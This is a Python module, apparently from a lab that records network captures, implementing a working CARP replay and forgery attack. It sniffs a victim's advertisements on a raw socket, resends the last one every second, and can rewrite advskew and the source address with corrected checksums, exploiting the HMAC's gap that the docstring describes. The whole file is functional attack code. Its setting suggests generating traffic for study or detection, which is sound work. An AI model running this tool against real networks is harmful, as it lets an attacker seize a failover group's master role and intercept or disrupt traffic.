"""An attacker on a port of its own: hears a master's advertisements and sends the last one again.

Nothing here knows the passphrase. Unchanged, the frame is a replay; with `--advskew` it is a
forgery, because CARP's HMAC covers neither advskew nor the source address. Prints the time in Unix
microseconds of every frame it sends. Run on the attacker's host as `python -m
captures.record.intruder VICTIM VHID BEGIN END [--advskew N] [--source ADDRESS]`.
"""

import argparse
import socket
import struct
import sys
import time
from collections.abc import Sequence

from captures.record.plan import Attack, Host, Micros

_IPV4 = 0x0800
_CARP_SIZE = 36
_ETHER_SIZE = 14
_IP_SIZE = 20
_PAUSE_S = 1.0
_ATTEMPT_S = 0.2


def command(attack: Attack, attacker: Host, victim: Host, begin: Micros) -> list[str]:
    """The command line of an attack; `begin` is when the story began."""
    start, end = (begin + int(second * 1_000_000) for second in (attack.at, attack.until))
    argv = [sys.executable, "-m", "captures.record.intruder", victim.address]
    argv += [str(victim.ucarps[0].vhid), str(start), str(end)]
    if attack.advskew is not None:
        argv += ["--advskew", str(attack.advskew)]
    return [*argv, "--source", attacker.address] if attack.own_address else argv


def main(argv: Sequence[str]) -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("victim")
    parser.add_argument("vhid", type=int)
    parser.add_argument("begin", type=int)
    parser.add_argument("end", type=int)
    parser.add_argument("--advskew", type=int)
    parser.add_argument("--source")
    options = parser.parse_args(argv)

    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_IPV4))
    wire.bind(("eth0", _IPV4))
    frame = _listen(wire, socket.inet_aton(options.victim), options.vhid, options.begin)
    if frame is None:
        sys.exit("the victim was not heard")
    frame = forged(frame, options.advskew, options.source)
    due = time.time()
    while due * 1e6 < options.end:
        time.sleep(max(0.0, due - time.time()))
        print(time.time_ns() // 1000, flush=True)
        wire.send(frame)
        due += _PAUSE_S


def forged(frame: bytes, advskew: int | None, source: str | None) -> bytes:
    """The frame with another advskew and source address, checksums corrected, if they are given."""
    start = _ETHER_SIZE + _IP_SIZE
    ether, ip, carp = frame[:_ETHER_SIZE], frame[_ETHER_SIZE:start], frame[start:]
    if source is not None:
        ip = ip[:10] + b"\0\0" + socket.inet_aton(source) + ip[16:]
        ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    if advskew is not None:
        carp = carp[:2] + bytes([advskew]) + carp[3:6] + b"\0\0" + carp[8:]
        carp = carp[:6] + struct.pack("!H", _checksum(carp)) + carp[8:]
    return ether + ip + carp


def _listen(wire: socket.socket, victim: bytes, vhid: int, until: Micros) -> bytes | None:
    """The last advertisement heard from the victim before the attack begins."""
    last = None
    wire.settimeout(_ATTEMPT_S)
    while time.time_ns() // 1000 < until:
        try:
            frame = wire.recv(65535)
        except TimeoutError:
            continue
        ip = frame[_ETHER_SIZE : _ETHER_SIZE + _IP_SIZE]
        carp = frame[_ETHER_SIZE + _IP_SIZE :]
        if ip[9] == 112 and ip[12:16] == victim and len(carp) == _CARP_SIZE and carp[1] == vhid:
            last = frame
    return last


def _checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


if __name__ == "__main__":
    main(sys.argv[1:])
